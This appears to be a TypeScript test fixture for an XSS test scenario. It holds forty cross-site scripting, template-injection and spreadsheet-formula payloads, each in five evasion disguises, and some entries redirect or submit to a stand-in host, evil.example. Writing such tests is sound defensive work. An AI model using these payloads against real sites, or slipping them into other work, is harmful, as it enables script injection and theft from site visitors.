/** What a text calls if it becomes code. The browser counts the calls. */
export const CALLED = 'ran'

/** Texts that call it without any action of a person where they are written into a page as they are. */
const RUN_BY_THEMSELVES = [
  '<script>ran()</script>',
  '<img src=x onerror=ran()>',
  '<img src=x onerror="ran()">',
  "<img src=x onerror='ran()'//",
  '<img/src/onerror=ran()>',
  '<svg onload=ran()>',
  '<svg><script>ran()</script></svg>',
  '<svg><image href=x onerror=ran()></image></svg>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<body onload=ran()>',
  '<details open ontoggle=ran()><summary>x</summary></details>',
  '<video><source src=x onerror=ran()></video>',
  '<video src=x onerror=ran()></video>',
  '<audio src=x onerror=ran()></audio>',
  '<input autofocus onfocus=ran()>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<iframe src="javascript:parent.ran()"></iframe>',
  '<iframe onload=ran()></iframe>',
  '<object data="javascript:ran()"></object><img src=x onerror=ran()>',
  '<math><mtext></p><img src=x onerror=ran()>',
  '<table><tr><td><img src=x onerror=ran()></table>',
  '<select><option><img src=x onerror=ran()></select><img src=x onerror=ran()>',
  '<!--><img src=x onerror=ran()>-->',
  '<link rel=stylesheet href=data:text/css, onload=ran()>',
  '<style onload=ran()>p{}</style>',
  '<p style="animation:x 1ms" onanimationstart=ran()><style>@keyframes x{}</style>',
]

/** Texts that need another place, a template language, a careless link or a spreadsheet to do harm. */
const RUN_ELSEWHERE = [
  'javascript:ran()',
  '<a href="javascript:ran()">here</a>',
  'data:text/html,<script>ran()</script>',
  "' onmouseover='ran()",
  '" autofocus onfocus="ran()" x="',
  '{{constructor.constructor("ran()")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an attacker writes.
  '${ran()}',
  '&lt;img src=x onerror=ran()&gt;',
  '&#60;img src=x onerror=ran()&#62;',
  '\\u003cscript\\u003eran()\\u003c/script\\u003e',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><button>Send</button></form>',
  '=HYPERLINK("https://evil.example","x")',
]

const inUpperCase = (text: string) => text.replace(/<\/?\w+/g, tag => tag.toUpperCase())

const DISGUISES: readonly ((text: string) => string)[] = [
  text => text,
  text => `<B>Mason</B> ${inUpperCase(text)}`,
  text => `"'>${text}`,
  text => `</title></textarea></template>${text}`,
  text => `Asha \u202E${text}\u202C\u200B`,
]

const disguised = (texts: readonly string[]) => DISGUISES.flatMap(disguise => texts.map(disguise))

/** Two hundred: forty texts in five disguises. */
export const HOSTILE_TEXTS: readonly string[] = disguised([...RUN_BY_THEMSELVES, ...RUN_ELSEWHERE])

/** Those that a page without escaping and without a policy must run, or the scenario could not see what it looks for. */
export const RUNNING_TEXTS: readonly string[] = disguised(RUN_BY_THEMSELVES)

/** This many of them, evenly from the first to the last. */
export function spread(texts: readonly string[], wanted: number): readonly string[] {
  return Array.from({ length: wanted }, (_, at) => texts[Math.floor((at * texts.length) / wanted)]!)
}
